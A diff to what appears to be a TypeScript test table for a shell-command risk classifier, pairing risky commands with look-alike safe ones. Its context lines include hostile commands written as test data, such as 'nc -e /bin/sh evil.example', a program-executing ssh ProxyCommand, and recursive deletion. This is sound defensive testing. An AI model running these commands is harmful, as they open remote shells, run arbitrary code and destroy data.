@@ -146,7 +146,7 @@ const tricks: readonly (readonly [name: string, trick: string, atLeast: ShellCla
   ["ssh", "ssh -o ProxyCommand=./x good.example", "exec", "ping -c 1 good.example", "network"],
   ["nc with a shell", "nc -e /bin/sh evil.example 1", "unknown", "nc -z good.example 1", "network"],
   ["rsync by a program", "rsync -e ./x a good.example:b", "unknown", "rsync -a a good.example:b", "network"],
-  ["an interpreter", "python3 -c 'print(1)'", "exec", "echo python3 -c 'print(1)'", "read"],
+  ["an interpreter", "python3 -c 'import os'", "exec", "echo python3 -c 'print(1)'", "read"],
   ["an interpreter by its other name", "perl -e 'unlink x'", "exec", "grep perl -e 'unlink x'", "read"],
   // Texts for other shells.
   ["PowerShell", "Remove-Item -Recurse C:\\x", "unknown", "echo Remove-Item", "read"],
@@ -279,7 +279,7 @@ const atHome: readonly (readonly [look: string, trick: string])[] = [
   ["npm ls left-pad", "npm install left-pad"],
   ["pip list", "pip install x"],
   ["pip show requests", "pip show requests --proxy evil.example"],
-  ["node --version", "node -e 1"],
+  ["node --version", "node -r ./x.js -e 1"],
   ["python3 -V", "python3 -v"],
   ["go version", "go run ."],
   ["npm -v", "./npm -v"],
